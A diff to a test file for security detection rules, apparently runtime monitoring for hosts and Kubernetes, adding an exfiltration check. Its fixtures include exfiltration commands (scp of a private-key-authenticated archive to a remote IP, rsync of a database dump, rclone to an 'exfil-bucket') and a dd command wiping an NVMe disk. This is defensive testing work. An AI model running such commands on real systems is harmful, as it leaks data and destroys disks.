@@ -45,7 +45,7 @@ const SOURCE_TAG: Readonly<Record<string, string>> = { aws_cloudtrail: 'aws', k8
 const TOPICS = new Set([
   'download', 'fileless', 'server_shell', 'cryptomining', 'reverse_shell', 'cloud_metadata', 'k8s_credentials',
   'namespace_change', 'container_escape', 'ransomware', 'data_destruction', 'k8s_workload', 'k8s_exec',
-  'cloud_logging', 'detection_tampering', 's3_exposure', 'snapshot_sharing', 'kms', 'identity',
+  'cloud_logging', 'detection_tampering', 's3_exposure', 'snapshot_sharing', 'kms', 'identity', 'exfiltration',
 ]);
 
 function ruleFile(name: string): RuleFile {
@@ -697,6 +697,14 @@ describe('default rules', () => {
       fires('Secure wipe of data or disk', exec({ binary: '/bin/dd', args: 'if=/dev/zero of=/dev/nvme0n1 bs=1M' }, BASH, { host: true }));
       silent('Secure wipe of data or disk', exec({ binary: '/usr/bin/shred', args: '-u /tmp/deploy-key.pem' }, SH));
       silent('Secure wipe of data or disk', exec({ binary: '/bin/dd', args: 'if=/dev/zero of=/swapfile bs=1M count=1024' }, BASH, { host: true }));
+    });
+
+    it('flags files copied to a remote host, not local copies', () => {
+      fires('Files copied to a remote host', exec({ binary: '/usr/bin/scp', args: '-i /root/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~' }, SH));
+      fires('Files copied to a remote host', exec({ binary: '/usr/bin/rsync', args: '-az /var/lib/postgresql/dump/ backup.example.net:/srv/dumps/' }, BASH, { host: true }));
+      fires('Files copied to a remote host', exec({ binary: '/usr/bin/rclone', args: 'copy /data remote-s3://exfil-bucket/' }, SH));
+      silent('Files copied to a remote host', exec({ binary: '/usr/bin/rsync', args: '-a /var/lib/app/ /backup/app/' }, SH));
+      silent('Files copied to a remote host', exec({ binary: '/bin/cp', args: 'a@b:c /tmp/x' }, SH));
     });
   });
 
